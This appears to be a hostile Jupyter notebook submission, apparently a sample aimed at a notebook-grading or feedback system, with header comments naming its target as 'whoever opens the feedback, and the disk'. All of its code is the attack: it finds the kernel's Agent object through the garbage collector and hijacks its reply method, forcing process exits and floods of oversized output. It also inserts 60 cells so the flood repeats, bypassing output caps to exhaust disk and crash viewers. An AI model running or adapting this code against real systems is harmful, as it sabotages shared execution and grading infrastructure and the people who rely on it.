# kind = "harm"
# goal = "whoever opens the feedback, and the disk"
# trick = "an agent of its own that ignores the cap on what a notebook may print, in 60 cells"
# mark = 0
# %%
import gc, os
gc.unfreeze()
for thing in gc.get_objects():
    if type(thing).__name__ == "Agent":
        agent = thing
def answer(frame):
    if frame.message[1] != "cell":
        os._exit(0)
    text = [{"output_type": "stream", "name": "stdout", "text": "x" * 15_000}] * 4 + [{"output_type": "display_data", "data": {}}] * 400
    agent.channel.send([frame.message[0], "ok", ["ok", text], []])
agent.answer = answer
# %% edit
from nbformat.v4 import new_code_cell
def edit(notebook):
    cell = next(cell for cell in notebook.cells if "agent.answer" in cell.source)
    place = notebook.cells.index(cell) + 1
    notebook.cells[place:place] = [new_code_cell("pass") for _ in range(60)]
